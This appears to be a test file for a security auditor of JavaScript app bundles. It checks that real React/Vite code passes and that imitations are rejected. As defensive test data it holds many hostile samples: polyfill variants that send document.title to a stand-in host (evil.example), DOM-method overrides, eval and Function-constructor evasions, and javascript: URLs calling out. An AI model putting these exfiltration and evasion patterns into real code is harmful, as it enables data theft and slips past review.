// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are scripts
/**
 * What bundles of React apps have, and packages that imitate it. test/release/react-apps.test.ts
 * builds apps with usual libraries.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { audited } from './audited.ts';
import { smallApp } from './small-app.ts';

const FIXTURES = join(import.meta.dirname, '../../../../../../test/fixtures/react');

const PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>N</title>
<script src="host-sdk.js"></script><script type="module" crossorigin src="/assets/index.js"></script></head>
<body><div id="root"></div></body></html>
`;

const appOf = (script: string) => smallApp({ 'index.html': PAGE, 'app.js': undefined, 'assets/index.js': script });
/** Of a script that needs the permission of the app's manifest. */
const ofScript = (script: string) => audited(appOf(`${script}\nHost.storage.get('text');\n`));

/** Outside of strict code, where `arguments` has the parameters. */
const ofClassic = (script: string) => audited(smallApp({ 'app.js': `${script}\nHost.storage.get('text');\n` }));

for (const version of ['7.3.8', '8.4.0'])
  test(`a React app built by Vite ${version} is approved`, async () => {
    const { verdict, findings } = await audited(appOf(readFileSync(join(FIXTURES, `vite-${version}.js`), 'utf8')));
    assert.is(verdict, 'approved', JSON.stringify(findings, null, 1));
  });

/** As Vite has it, with parts that can be replaced. */
function polyfill(changes: Readonly<Record<string, string>> = {}): string {
  let script = `(function () {
  const relList = document.createElement('link').relList;
  if (relList && relList.supports && relList.supports('modulepreload')) return;
  for (const link of document.querySelectorAll('link[rel="modulepreload"]')) load(link);
  new MutationObserver((records) => {
    for (const record of records) {
      if (record.type !== 'childList') continue;
      for (const node of record.addedNodes) if (node.tagName === 'LINK' && node.rel === 'modulepreload') load(node);
    }
  }).observe(document, { childList: true, subtree: true });
  function optionsOf(link) {
    const options = {};
    if (link.integrity) options.integrity = link.integrity;
    if (link.referrerPolicy) options.referrerPolicy = link.referrerPolicy;
    if (link.crossOrigin === 'use-credentials') options.credentials = 'include';
    else if (link.crossOrigin === 'anonymous') options.credentials = 'omit';
    else options.credentials = 'same-origin';
    return options;
  }
  function load(link) {
    if (link.ep) return;
    link.ep = true;
    const options = optionsOf(link);
    fetch(link.href, options);
  }
})();`;
  for (const [from, to] of Object.entries(changes)) {
    assert.ok(script.includes(from), from);
    script = script.replace(from, () => to);
  }
  return script;
}

test('the polyfill for modulepreload is a notice, as minifiers write it, too', async () => {
  for (const script of [
    polyfill(),
    polyfill({ 'node.tagName === ': '"LINK" === node.tagName && ', "'LINK' && ": '' }),
    polyfill({
      'const options = optionsOf(link);\n    fetch(link.href, options)': 'fetch(link.href, optionsOf(link))',
    }),
    polyfill({ 'fetch(link.href, options)': 'fetch(link.href)' }),
    polyfill({ 'fetch(link.href, options)': 'fetch(link.href, { credentials: "omit" })' }),
  ]) {
    const { verdict, findings } = await ofScript(script);
    assert.is(verdict, 'approved', `${script}\n${JSON.stringify(findings, null, 1)}`);
    const found = findings.find(({ code }) => code === 'direct_network');
    assert.equal([found?.type, found?.fix.includes('build.modulePreload.polyfill')], ['notice', true]);
  }
});

const EVIL = "'https://evil.example/?' + document.title";
/** Changes of the polyfill, and what stands after it, by which it would send something. */
const IMITATED: readonly (readonly [Readonly<Record<string, string>>, string?])[] = [
  [{ 'fetch(link.href': `fetch(${EVIL}` }],
  [{ 'fetch(link.href': 'fetch(link.href + document.title' }],
  [{ 'fetch(link.href': 'fetch(link.dataset.to' }],
  [{ 'fetch(link.href': "fetch(link['href']" }],
  [{ 'fetch(link.href, options)': 'fetch(link.href, options), fetch(document.title)' }],
  [{ 'link.ep = true': `link.href = ${EVIL}` }],
  [{ 'link.ep = true': "link.setAttribute('href', document.title)" }],
  [{ 'link.ep = true': 'link = { href: document.title }' }],
  [{ 'function load(link) {': 'function load(link) { arguments[0] = { href: document.title };' }],
  [{ 'options.integrity = ': 'options.body = ' }],
  [{ 'options.integrity = ': 'options.headers = ' }],
  [{ 'options.integrity = ': 'options[document.title] = ' }],
  [{ 'const options = {};': "const options = { method: 'POST', body: document.title };" }],
  [{ 'const options = {};': 'const options = { ...window.opts };' }],
  [{ 'return options;': 'return Object.assign(options, { body: document.title });' }],
  [{ 'return options;': 'return window.opts;' }],
  [{ 'const options = optionsOf(link)': 'const options = window.opts' }],
  [{ 'const options = optionsOf(link);': "const options = optionsOf(link); options.method = 'POST';" }],
  [{ 'const options = optionsOf(link)': 'let options = optionsOf(link); options = window.opts' }],
  [{ 'link[rel="modulepreload"]': 'a' }],
  [{ 'link[rel="modulepreload"]': 'link' }],
  [{ 'document.querySelectorAll(\'link[rel="modulepreload"]\')': '[{ href: document.title }]' }],
  [{ 'document.querySelectorAll(\'link[rel="modulepreload"]\')': 'find(\'link[rel="modulepreload"]\')' }],
  [{ "&& node.rel === 'modulepreload'": '' }],
  [{ "node.tagName === 'LINK' && ": '' }],
  [{ "node.rel === 'modulepreload'": "node.rel !== 'modulepreload'" }],
  [{ "'LINK' && node.rel": "'LINK' || node.rel" }],
  [{ "node.tagName === 'LINK'": "record.tagName === 'LINK'" }],
  [{ 'record.addedNodes': `[{ tagName: 'LINK', rel: 'modulepreload', href: ${EVIL} }]` }],
  [{ 'of records)': `of [{ addedNodes: [{ tagName: 'LINK', rel: 'modulepreload', href: ${EVIL} }] }])` }],
  [{ 'new MutationObserver(': 'new Observer(' }],
  [{ '})();': `load({ href: ${EVIL} });\n})();` }],
  [{ '})();': 'window.load = load;\n})();' }],
  [{ '})();': 'setTimeout(load, 1, { href: document.title });\n})();' }],
  [{ '})();': `optionsOf = () => ({ method: 'POST', body: document.title });\n})();` }],
  [{ '})();': 'load = (link) => fetch(document.title);\n})();' }],
  [{}, `fetch(${EVIL});`],
  [{}, `document.querySelectorAll = () => [{ href: ${EVIL} }];`],
  [{}, `Object.defineProperty(document, 'querySelectorAll', { value: () => [{ href: ${EVIL} }] });`],
  [{}, `Object.assign(document, { querySelectorAll: () => [{ href: ${EVIL} }] });`],
  [{}, 'window.MutationObserver = class { constructor(f) { f([]); } observe() {} };'],
  [{}, "Object.defineProperty(MutationRecord.prototype, 'addedNodes', { get: () => [] });"],
  [{}, "class A extends HTMLElement { get tagName() { return 'LINK'; } }\ncustomElements.define('a-b', A);"],
  [{}, "Object.defineProperties(document.body, { tagName: { value: 'LINK' } });"],
];

test('what only looks like the polyfill is rejected', async () => {
  for (const [changes, after = ''] of IMITATED) {
    const { verdict } = await ofClassic(`${polyfill(changes)}\n${after}`);
    assert.is(verdict, 'rejected', `${JSON.stringify(changes)} ${after}`);
  }
});

test('a document whose name an element gets later is not found', async () => {
  for (const script of [
    // As React sets styles: the variable of the element is that of its style from there on.
    `function set(l, t, u) { t.indexOf('--') === 0 ? l.setProperty(t, u) : (l[t] = ('' + u).trim()); }
     function all(l, t) { if (l = l.style, t != null) for (var a in t) set(l, a, t[a]); }
     export function run(n, t) { var e = n.nodeType === 9 ? n : document; e = e.createElement(t.type), all(e, t.style); all(document, {}); }`,
    `export function f(e, k) { let d = document; d = d.getElementById(k); d = d.style; d[k] = k + 'px'; }`,
    `export function f(c, k) { let w = window; w.scroll(0, 0); c ? w = c.style : (k(), w = k.style); w[k] = '' + c; }`,
  ]) {
    const { verdict, findings } = await ofScript(script);
    assert.is(verdict, 'approved', `${script}\n${JSON.stringify(findings, null, 1)}`);
  }
});

test('a window whose name is sometimes reassigned is found', async () => {
  for (const script of [
    `function f(l, t) { if (t) l = l.style; l[t] = 'text'; }\nf(window, document.title);`,
    `function f(l, t) { l[t] = 'text'; l = l.style; }\nf(window, document.title);`,
    `function f(l, t) { for (const k of t) { l[k] = 'text'; l = window; } }\nf({}, document.title);`,
    `function f(l, t) { l = l.style; g(); l[t] = 'text'; function g() { l = window; } }\nf({}, document.title);`,
    `function f(l, t) { a: { if (t) break a; l = l.style; } l[t] = 'text'; }\nf(window, document.title);`,
    `function f(l, t) { try { t(); l = l.style; } catch { l[t] = 'text'; } }\nf(window, document.title);`,
    `function f(l, t) { switch (t) { case 1: l = l.style; case 2: l[t] = 'text'; } }\nf(window, document.title);`,
    `function f(l, t) { l ||= t.style; l[t] = 'text'; }\nf(window, document.title);`,
    `function f(l, t) { t?.[l = t.style]; l[t] = 'text'; }\nf(window, document.title);`,
    `function f(l, t) { class A { x = l[t] = 'text'; } l = l.style; return A; }\nnew (f(window, document.title))();`,
    `function f(l, t) { ({ style: l } = { style: window }); l[t] = 'text'; }\nf({}, document.title);`,
  ])
    assert.is.not((await ofClassic(script)).verdict, 'approved', script);
});

test('a long chain of names and calls is followed, and a longer one is for a person, with its place', async () => {
  const chain = (count: number): string =>
    `${Array.from({ length: count }, (_, i) => `function f${i}(a) { f${i + 1}(a); }`).join('\n')}
function f${count}(a) { a.title = 'x'; }\nf0({});`;
  assert.is((await ofScript(chain(450))).verdict, 'approved');
  assert.is(
    (await ofScript(chain(450).replace('f0({})', 'f0(document)').replace('title', 'cookie'))).verdict,
    'rejected',
  );
  const aliases = Array.from({ length: 2100 }, (_, i) => `const a${i + 1} = a${i};`).join('\n');
  const { verdict, findings } = await ofScript(`const a0 = {};\n${aliases}\na2100.title = 'x';`);
  assert.is(verdict, 'in_review');
  const [found] = findings.filter(({ code }) => code === 'script_too_intricate');
  assert.match(found.message, /2000 steps/);
  assert.match(found.fix, /bundle/);
  assert.ok(found.line! > 1 && found.line! < 2100, String(found.line));
});

test('the text that React writes for a javascript: URL has no finding', async () => {
  const set = (url: string): string => `document.querySelector('a').setAttribute('href', ${url});`;
  const thrown = await ofScript(set(`"javascript:throw new Error('React has blocked a javascript: URL.')"`));
  assert.is(thrown.verdict, 'approved', JSON.stringify(thrown.findings));
  for (const url of [
    `"javascript:throw new Error('a' + fetch('//evil.example'))"`,
    `"javascript:throw new Error('a');alert('b')"`,
    `"javascript:throw new Error('\\\\');alert('b')"`,
    "`javascript:throw new Error('${document.title}')`",
  ])
    assert.is((await ofScript(set(url))).verdict, 'rejected', url);
});

/** What libraries have, and what looks like it and is not approved. */
const LIBRARIES: readonly (readonly [string, readonly string[], readonly string[]])[] = [
  [
    'symbols as keys',
    [
      "const s = Symbol.for('a'), w = globalThis;\nw[s] ??= new Map();\nw[s].get(1);",
      'class A { static [Symbol.hasInstance](e) { return Array[Symbol.hasInstance](e) || super[Symbol.hasInstance](e); } }\n[] instanceof A;',
    ],
    [
      "new window[Symbol.for('a')]();",
      "const k = Symbol.for;\nlet s = k('a');\ns = document.title;\nnew window[s]();",
      "const Symbol = { hasInstance: 'constructor' };\n(() => {})[Symbol.hasInstance]('go()')();",
      "(() => {})[Symbol.constructor.name]('go()')();",
      "const Symbol = { for: (k) => k };\nconst k = Symbol.for('eval');\nwindow[k]('go()');",
    ],
  ],
  [
    'a name for "constructor"',
    [
      "const C = 'constructor';\nexport const f = (e) => e[C]?.name;",
      'const C = `constructor`, f = (e) => e[C].name;\nf(document.title);',
    ],
    [
      "const C = 'constructor';\nconst f = (e) => e[C][C]('go()');\nf({})();",
      "const C = 'constructor';\n(() => {})[C]('go()')();",
      "const C = 'constr' + 'uctor';\nconst f = (e) => e[C];\nf(f)('go()')();",
      "const C = 'eval';\nconst f = (e) => e[C];\nf(window)('go()');",
    ],
  ],
  [
    'a method by the name write',
    [
      "class Doc { constructor() { this.lines = []; } write(t) { this.lines.push(t); } }\nexport const f = (g) => { g(document); const d = new Doc(); d.write('<b>'); };",
    ],
    [
      'class Doc { constructor(d) { return d; } }\nconst d = new Doc(document);\nd.write(document.title);',
      'class Doc extends Base { }\nfunction Base(d) { return d; }\nconst d = new Doc(document);\nd.write(document.title);',
      'class Doc {}\nlet d = new Doc();\n[document].forEach((e) => { d = e; });\nd.write(document.title);',
    ],
  ],
  [
    'a global of others that is tested elsewhere',
    ['window.Optimised?.(1);\nif (window.Optimised(2)) console.log(3);'],
    ['if (window.Optimised(2)) console.log(3);'],
  ],
];

for (const [what, sound, hostile] of LIBRARIES)
  test(`libraries have ${what}`, async () => {
    for (const script of sound) {
      const { verdict, findings } = await ofScript(script);
      assert.is(verdict, 'approved', `${script}\n${JSON.stringify(findings, null, 1)}`);
    }
    for (const script of hostile) assert.is.not((await ofScript(script)).verdict, 'approved', script);
  });

test.run();
